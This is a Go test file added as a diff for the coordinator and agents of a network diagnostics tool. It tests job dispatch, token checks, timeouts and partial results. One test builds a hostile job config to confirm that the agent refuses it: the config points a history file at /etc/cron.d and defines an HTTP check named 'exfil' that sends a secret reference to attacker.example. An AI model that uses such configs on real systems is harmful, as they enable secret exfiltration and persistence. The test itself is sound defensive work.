@@ -0,0 +1,305 @@
+package agent
+
+import (
+	"context"
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/junenu/solo-hackathon/day006_pingood-go/internal/config"
+	"github.com/junenu/solo-hackathon/day006_pingood-go/internal/report"
+)
+
+func fakeRun(gateway string) RunFunc {
+	return func(ctx context.Context, cfg *config.Config, emit func(report.Section)) (*report.Report, error) {
+		rep := &report.Report{Platform: "linux/amd64", Interface: "eth0"}
+		section := report.Section{
+			ID:    "gateway",
+			Title: "Default Gateway Check",
+			Items: []report.Item{{Name: "Gateway", Status: report.StatusPass, Summary: gateway}},
+		}
+		if len(cfg.PingTargetsIPv4) == 0 {
+			section.Items[0].Status = report.StatusFail
+		}
+		rep.Add(section)
+		emit(section)
+		return rep, nil
+	}
+}
+
+func startAgent(t *testing.T, ctx context.Context, url, name, token string, run RunFunc) {
+	t.Helper()
+	a := &Agent{
+		CoordinatorURL: url,
+		Token:          token,
+		Registration:   Registration{Name: name},
+		RetryInterval:  10 * time.Millisecond,
+		Run:            run,
+	}
+	go a.Serve(ctx)
+}
+
+func TestDispatchToAgents(t *testing.T) {
+	coordinator := NewCoordinator("secret")
+	coordinator.PollTimeout = 100 * time.Millisecond
+	server := httptest.NewServer(coordinator)
+	defer server.Close()
+
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+
+	startAgent(t, ctx, server.URL, "tokyo", "secret", fakeRun("192.168.1.1"))
+	startAgent(t, ctx, server.URL, "osaka", "secret", fakeRun("10.0.0.1"))
+
+	names, err := coordinator.WaitForAgents(ctx, []string{"tokyo", "osaka"})
+	if err != nil {
+		t.Fatalf("WaitForAgents failed: %v", err)
+	}
+
+	var mu sync.Mutex
+	streamed := make(map[string]int)
+	cfg := config.DefaultConfig()
+	reports, agentErrors, err := coordinator.Dispatch(ctx, cfg, names, func(agent string, section report.Section) {
+		mu.Lock()
+		defer mu.Unlock()
+		streamed[agent]++
+	})
+	if err != nil {
+		t.Fatalf("Dispatch failed: %v", err)
+	}
+	if len(agentErrors) != 0 {
+		t.Errorf("Unexpected agent errors: %v", agentErrors)
+	}
+
+	for name, gateway := range map[string]string{"tokyo": "192.168.1.1", "osaka": "10.0.0.1"} {
+		rep, ok := reports[name]
+		if !ok {
+			t.Fatalf("Missing report from %s", name)
+		}
+		if rep.Agent != name {
+			t.Errorf("Expected report agent %s, got %s", name, rep.Agent)
+		}
+		section, _ := rep.Section("gateway")
+		if item, _ := section.Item("Gateway"); item.Summary != gateway {
+			t.Errorf("%s: expected gateway %s, got %s", name, gateway, item.Summary)
+		}
+		if streamed[name] != 1 {
+			t.Errorf("%s: expected 1 streamed section, got %d", name, streamed[name])
+		}
+	}
+}
+
+func TestAgentRefusesLocalSettingsFromCoordinator(t *testing.T) {
+	coordinator := NewCoordinator("secret")
+	coordinator.PollTimeout = 100 * time.Millisecond
+	server := httptest.NewServer(coordinator)
+	defer server.Close()
+
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+
+	ran := false
+	startAgent(t, ctx, server.URL, "tokyo", "secret", func(ctx context.Context, cfg *config.Config, emit func(report.Section)) (*report.Report, error) {
+		ran = true
+		return &report.Report{}, nil
+	})
+	if _, err := coordinator.WaitForAgents(ctx, []string{"tokyo"}); err != nil {
+		t.Fatalf("WaitForAgents failed: %v", err)
+	}
+
+	cfg := config.DefaultConfig()
+	cfg.NeighborHistoryFile = "/etc/cron.d/pingood"
+	cfg.HTTPChecks = []config.HTTPCheck{{Name: "exfil", URL: "https://attacker.example/", Headers: map[string]string{"X-Token": "${SECRET}"}}}
+	reports, agentErrors, err := coordinator.Dispatch(ctx, cfg, []string{"tokyo"}, nil)
+	if err != nil {
+		t.Fatalf("Dispatch failed: %v", err)
+	}
+	if ran || len(reports) != 0 {
+		t.Error("Expected the job not to run")
+	}
+	msg := agentErrors["tokyo"]
+	if !strings.Contains(msg, "NEIGHBOR_HISTORY_FILE") || !strings.Contains(msg, "HTTP_CHECKS exfil: ${NAME} reference") {
+		t.Errorf("Expected both settings to be refused, got %q", msg)
+	}
+
+	// Literal dollars are not references.
+	cfg = config.DefaultConfig()
+	cfg.HTTPChecks = []config.HTTPCheck{{URL: "https://example.com/", BasicAuthPassword: "pa$$word"}}
+	if err := checkJobConfig(cfg); err != nil {
+		t.Errorf("Expected a literal $ to be accepted, got %v", err)
+	}
+
+	cfg.ThroughputToken = "${PINGOOD_THROUGHPUT_TOKEN}"
+	if err := checkJobConfig(cfg); err == nil || !strings.Contains(err.Error(), "THROUGHPUT_TOKEN") {
+		t.Errorf("Expected the throughput token reference to be refused, got %v", err)
+	}
+}
+
+func TestAgentReportsRunErrors(t *testing.T) {
+	coordinator := NewCoordinator("secret")
+	coordinator.PollTimeout = 100 * time.Millisecond
+	server := httptest.NewServer(coordinator)
+	defer server.Close()
+
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+
+	startAgent(t, ctx, server.URL, "tokyo", "secret", func(ctx context.Context, cfg *config.Config, emit func(report.Section)) (*report.Report, error) {
+		return nil, errors.New("unknown check")
+	})
+	if _, err := coordinator.WaitForAgents(ctx, []string{"tokyo"}); err != nil {
+		t.Fatalf("WaitForAgents failed: %v", err)
+	}
+	_, agentErrors, err := coordinator.Dispatch(ctx, config.DefaultConfig(), []string{"tokyo"}, nil)
+	if err != nil {
+		t.Fatalf("Dispatch failed: %v", err)
+	}
+	if agentErrors["tokyo"] != "unknown check" {
+		t.Errorf("Expected the run error, got %q", agentErrors["tokyo"])
+	}
+}
+
+func TestAgentStopsJobTheCoordinatorGaveUpOn(t *testing.T) {
+	coordinator := NewCoordinator("secret")
+	coordinator.PollTimeout = 100 * time.Millisecond
+	server := httptest.NewServer(coordinator)
+	defer server.Close()
+
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+
+	stopped := make(chan struct{})
+	startAgent(t, ctx, server.URL, "tokyo", "secret", func(ctx context.Context, cfg *config.Config, emit func(report.Section)) (*report.Report, error) {
+		for ctx.Err() == nil {
+			emit(report.Section{ID: "ping_ipv4"})
+			time.Sleep(20 * time.Millisecond)
+		}
+		close(stopped)
+		return nil, ctx.Err()
+	})
+	if _, err := coordinator.WaitForAgents(ctx, []string{"tokyo"}); err != nil {
+		t.Fatalf("WaitForAgents failed: %v", err)
+	}
+	dispatchCtx, cancelDispatch := context.WithTimeout(ctx, 200*time.Millisecond)
+	defer cancelDispatch()
+	if _, _, err := coordinator.Dispatch(dispatchCtx, config.DefaultConfig(), []string{"tokyo"}, nil); err == nil {
+		t.Fatal("Expected Dispatch to time out")
+	}
+	select {
+	case <-stopped:
+	case <-ctx.Done():
+		t.Fatal("Expected the agent to stop the job")
+	}
+}
+
+func TestCoordinatorRejectsWrongToken(t *testing.T) {
+	coordinator := NewCoordinator("secret")
+	server := httptest.NewServer(coordinator)
+	defer server.Close()
+
+	a := &Agent{CoordinatorURL: server.URL, Token: "wrong", Registration: Registration{Name: "x"}, Client: server.Client()}
+	err := a.post(context.Background(), RegisterPath, a.Registration)
+	if err == nil {
+		t.Fatal("Expected registration with wrong token to fail")
+	}
+	if len(coordinator.Agents()) != 0 {
+		t.Error("Expected no agents to be registered")
+	}
+}
+
+func TestCoordinatorRequiresToken(t *testing.T) {
+	coordinator := NewCoordinator("")
+	server := httptest.NewServer(coordinator)
+	defer server.Close()
+
+	a := &Agent{CoordinatorURL: server.URL, Registration: Registration{Name: "x"}, Client: server.Client()}
+	if err := a.post(context.Background(), RegisterPath, a.Registration); err == nil {
+		t.Fatal("Expected registration without a token to fail")
+	}
+
+	coordinator.Insecure = true
+	if err := a.post(context.Background(), RegisterPath, a.Registration); err != nil {
+		t.Fatalf("Expected an insecure coordinator to accept the agent, got %v", err)
+	}
+}
+
+func TestCoordinatorRejectsUpdatesFromOtherAgents(t *testing.T) {
+	coordinator := NewCoordinator("secret")
+	server := httptest.NewServer(coordinator)
+	defer server.Close()
+
+	coordinator.jobs["job"] = &jobState{
+		onSection: func(agent string, section report.Section) {
+			t.Errorf("Unexpected section from %s", agent)
+		},
+		pending: map[string]bool{"tokyo": true},
+		reports: make(map[string]*report.Report),
+		errors:  make(map[string]string),
+		done:    make(chan struct{}),
+	}
+	a := &Agent{CoordinatorURL: server.URL, Token: "secret", Registration: Registration{Name: "osaka"}, Client: server.Client()}
+	ctx := context.Background()
+	if err := a.post(ctx, SectionPath, SectionUpdate{JobID: "job", Agent: "osaka"}); err == nil {
+		t.Error("Expected a section from an agent the job was not sent to to fail")
+	}
+	if err := a.post(ctx, CompletePath, Completion{JobID: "job", Agent: "osaka", Report: &report.Report{}}); err == nil {
+		t.Error("Expected a completion from an agent the job was not sent to to fail")
+	}
+	if len(coordinator.jobs["job"].reports) != 0 {
+		t.Error("Expected no reports to be recorded")
+	}
+}
+
+func TestDispatchCanceledBeforePickupForgetsJob(t *testing.T) {
+	coordinator := NewCoordinator("secret")
+	state := &agentState{Registration: Registration{Name: "gone"}, jobs: make(chan Job)}
+	coordinator.agents["gone"] = state
+
+	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
+	defer cancel()
+	if _, _, err := coordinator.Dispatch(ctx, config.DefaultConfig(), []string{"gone"}, nil); err == nil {
+		t.Fatal("Expected Dispatch to fail when the agent never takes the job")
+	}
+	if len(coordinator.jobs) != 0 {
+		t.Errorf("Expected the job to be forgotten, got %d jobs", len(coordinator.jobs))
+	}
+}
+
+func TestDispatchTimeoutReturnsPartialResults(t *testing.T) {
+	coordinator := NewCoordinator("")
+	coordinator.Insecure = true
+	coordinator.PollTimeout = 50 * time.Millisecond
+	server := httptest.NewServer(coordinator)
+	defer server.Close()
+
+	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+	defer cancel()
+
+	startAgent(t, ctx, server.URL, "fast", "", fakeRun("192.168.1.1"))
+
+	// Registered but never polls, like an agent that went away.
+	req, _ := http.NewRequest(http.MethodPost, server.URL+RegisterPath, jsonBody(t, Registration{Name: "gone"}))
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatalf("Register failed: %v", err)
+	}
+	resp.Body.Close()
+
+	if _, err := coordinator.WaitForAgents(ctx, []string{"fast", "gone"}); err != nil {
+		t.Fatalf("WaitForAgents failed: %v", err)
+	}
+
+	dispatchCtx, cancelDispatch := context.WithTimeout(ctx, 500*time.Millisecond)
+	defer cancelDispatch()
+	reports, _, err := coordinator.Dispatch(dispatchCtx, config.DefaultConfig(), []string{"fast", "gone"}, nil)
+	if err == nil {
+		t.Fatal("Expected timeout error")
+	}
+	if _, ok := reports["fast"]; !ok {
+		t.Error("Expected partial result from the responsive agent")
+	}
+}